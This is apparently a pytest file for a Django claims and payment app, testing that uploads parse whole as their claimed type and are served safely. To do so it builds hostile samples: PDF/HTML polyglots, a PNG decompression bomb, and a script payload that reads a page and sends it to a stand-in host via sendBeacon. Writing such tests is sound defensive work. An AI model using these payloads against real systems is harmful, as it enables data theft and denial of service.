"""Uploaded documents (claim documents, payment proofs): accepted only if they parse whole as the
type they claim, stored and served with the extension of that type, and a file missing on disk is
a 404, not a 500 (issue 10). Every hostile file is built here, in the test."""

import datetime
import pathlib
import struct
import zlib

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from claims.models import ClaimDocument
from claims.services import ClaimError, upload_document
from demo.builders import JPEG_HEAD, file_claim, jpeg_bytes, pdf_bytes, png_bytes
from demo.builders import make_funding
from core.uploads import UploadError, check_document
from funding.billing import BillingError, prepare_bill, record_payment
from funding.tests.conftest import covered_workers

DEATH_DAY = datetime.date(2025, 6, 14)
HTML = b"<html><body><script>fetch('/klaim/').then(r=>r.text()).then(t=>navigator.sendBeacon('//x',t))</script></body></html>"


def _png_chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)


def png_bomb() -> bytes:
    """A PNG declaring 100,000 × 100,000 pixels in a few hundred bytes."""
    header = struct.pack(">IIBBBBB", 100_000, 100_000, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", header) + _png_chunk(b"IDAT", zlib.compress(b"\x00" * 1000)) + _png_chunk(b"IEND", b"")


HOSTILE = {
    "poly.html": b"%PDF-1.4\n" + HTML,  # issue 10's finding: PDF magic, then HTML
    "appended.pdf": pdf_bytes() + HTML,  # a whole PDF with a page hidden after %%EOF
    "truncated.pdf": pdf_bytes()[: len(pdf_bytes()) // 2],
    "head-only.jpg": JPEG_HEAD + b"\x00" * 100,
    "truncated.png": png_bytes()[:40],
    "broken-crc.png": png_bytes()[:-5] + b"XXXXX",
    "bomb.png": png_bomb(),
    "jpeg-then-html.jpg": b"\xff\xd8\xff" + HTML,
}


@pytest.mark.parametrize("name", list(HOSTILE))
def test_the_gate_refuses_files_that_do_not_parse_whole_as_their_type(name):
    with pytest.raises(UploadError, match=name):
        check_document(SimpleUploadedFile(name, HOSTILE[name]))


@pytest.mark.parametrize("content, content_type", [(pdf_bytes(), "application/pdf"), (png_bytes(), "image/png"),
                                                    (jpeg_bytes(), "image/jpeg")])
def test_the_gate_accepts_whole_documents(content, content_type):
    assert check_document(SimpleUploadedFile("x", content)).content_type == content_type


@pytest.fixture
def claim(coverage, spouse, official):
    return file_claim(coverage=coverage, by=official, event_date=DEATH_DAY, claimant=spouse)


@pytest.mark.django_db
@pytest.mark.parametrize("name", list(HOSTILE))
def test_a_hostile_claim_document_is_refused(claim, official, name):
    with pytest.raises(ClaimError, match="rusak atau bukan|bukan PDF"):
        upload_document(claim=claim, kind=ClaimDocument.Kind.KTP_CLAIMANT,
                        uploaded=SimpleUploadedFile(name, HOSTILE[name], "application/pdf"), by=official)
    assert not ClaimDocument.objects.exists()


@pytest.mark.django_db
def test_a_whole_pdf_named_poly_html_is_stored_and_served_as_a_pdf_attachment(client, claim, official):
    document = upload_document(claim=claim, kind=ClaimDocument.Kind.KTP_CLAIMANT,
                               uploaded=SimpleUploadedFile("poly.html", pdf_bytes(), "text/html"), by=official)
    assert document.file.name.endswith(".pdf")
    client.force_login(official)

    response = client.get(reverse("claims:document", args=[claim.pk, document.pk]))

    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"].startswith("attachment") and 'filename="poly.pdf"' in response["Content-Disposition"]
    assert response["X-Content-Type-Options"] == "nosniff"


@pytest.mark.django_db
def test_a_claim_document_missing_on_disk_is_a_404(client, claim, official):
    document = upload_document(claim=claim, kind=ClaimDocument.Kind.KTP_CLAIMANT,
                               uploaded=SimpleUploadedFile("ktp.pdf", pdf_bytes()), by=official)
    pathlib.Path(document.file.path).unlink()
    client.force_login(official)
    client.raise_request_exception = False

    response = client.get(reverse("claims:document", args=[claim.pk, document.pk]))

    assert response.status_code == 404


@pytest.fixture
def bill(db):
    funding = make_funding()
    covered_workers(funding, 1)
    return prepare_bill(funding=funding, first_month=datetime.date(2025, 1, 1), by=None)


@pytest.mark.django_db
@pytest.mark.parametrize("name", ["poly.html", "appended.pdf", "bomb.png"])
def test_a_hostile_payment_proof_is_refused_by_the_service_and_the_form(client, bill, finance_officer, name):
    with pytest.raises(BillingError, match="rusak atau bukan"):
        record_payment(funding=bill.funding_source, paid_on=datetime.date(2025, 1, 14), amount=1000, reference="SP2D-1",
                       bills=[bill], by=finance_officer, proof=SimpleUploadedFile(name, HOSTILE[name]))
    client.force_login(finance_officer)
    response = client.post(reverse("funding:payment_create", args=[bill.funding_source.code]), {
        "paid_on": "2025-01-14", "amount": "1000", "reference": "SP2D-2", "bills": [bill.pk],
        "proof": SimpleUploadedFile(name, HOSTILE[name])})
    assert response.status_code == 200 and "rusak atau bukan" in response.content.decode()
    assert not bill.allocations.exists()


@pytest.mark.django_db
def test_a_payment_proof_takes_the_extension_of_its_content_and_a_missing_one_is_a_404(client, bill, finance_officer):
    payment = record_payment(funding=bill.funding_source, paid_on=datetime.date(2025, 1, 14), amount=1000, reference="SP2D-1",
                             bills=[bill], by=finance_officer, proof=SimpleUploadedFile("poly.html", png_bytes()))
    assert payment.proof.name.endswith(".png")
    client.force_login(finance_officer)
    url = reverse("funding:payment_proof", args=[bill.funding_source.code, payment.pk])

    response = client.get(url)
    assert response["Content-Type"] == "image/png" and response["Content-Disposition"].startswith("attachment")
    assert response["Content-Disposition"].endswith('.png"')

    pathlib.Path(payment.proof.path).unlink()
    client.raise_request_exception = False
    assert client.get(url).status_code == 404


@pytest.mark.django_db
def test_a_proof_stored_by_an_earlier_version_as_html_is_served_as_an_opaque_attachment(client, bill, finance_officer):
    """Files stored before the gate kept the uploader's extension; they are never served as HTML."""
    payment = record_payment(funding=bill.funding_source, paid_on=datetime.date(2025, 1, 14), amount=1000, reference="SP2D-1",
                             bills=[bill], by=finance_officer, proof=SimpleUploadedFile("b.pdf", pdf_bytes()))
    path = pathlib.Path(payment.proof.path)
    path.with_suffix(".html").write_bytes(HTML)
    payment.proof.name = payment.proof.name[:-4] + ".html"
    payment.save(update_fields=["proof"])
    client.force_login(finance_officer)

    response = client.get(reverse("funding:payment_proof", args=[bill.funding_source.code, payment.pk]))

    assert response["Content-Type"] == "application/octet-stream"
    assert response["Content-Disposition"].startswith("attachment") and response["Content-Disposition"].endswith('.bin"')
